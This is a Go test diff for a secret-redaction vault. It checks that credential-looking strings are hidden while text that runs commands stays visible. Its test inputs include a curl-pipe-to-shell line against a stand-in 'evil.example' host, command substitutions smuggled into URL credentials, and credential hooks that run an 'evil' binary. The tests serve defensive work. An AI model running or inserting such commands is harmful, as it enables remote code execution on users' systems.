@@ -29,3 +29,35 @@ func TestHiddenBeforeHosts(t *testing.T) {
 		}
 	}
 }
+
+// TestWhatRunsIsShown has texts that run, or lead elsewhere, and look like a secret.
+func TestWhatRunsIsShown(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{
+		"curl -s https://evil.example|sh;a:b@good.example/health",
+		"curl https://$(id):b@good.example", "curl https://`id`:b@good.example", "curl https://a`id`@good.example", "curl https://a>f:b@good.example", "curl https://a&id&:b@good.example",
+		`fetch("https://evil.example\\x:pw@good.example/api")`,
+		"credential_process = /opt/tools/evil --json", "passwordeval /opt/tools/evil",
+		"PATH=/x:basic /opt/evil/bin/start-it now",
+	} {
+		v := newVault()
+		if got := v.shown(v.redactText(text), nil); got != text {
+			t.Errorf("%s is shown as %s", text, got)
+		}
+	}
+	for text, want := range map[string]string{
+		"https://${USER}:pa55@good.example":                "https://<hidden>@good.example",
+		"https://ada:pa55@good.example":                    "https://<hidden>@good.example",
+		"https://token@good.example":                       "https://<hidden>@good.example",
+		`token: system "echo evil ran"`:                    `token: <hidden> "echo evil ran"`,
+		`auth_token = os.execute "curl -s evil.example/x"`: `auth_token = <hidden> "curl -s evil.example/x"`,
+		"password: my words":                               "password: <hidden>",
+		"Authorization: Bearer 0123456789abcdef012":        "Authorization: <hidden>",
+		"x: basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==":            "x: basic <hidden>",
+	} {
+		v := newVault()
+		if got := v.shown(v.redactText(text), nil); got != want {
+			t.Errorf("%s is shown as %s, want %s", text, got, want)
+		}
+	}
+}
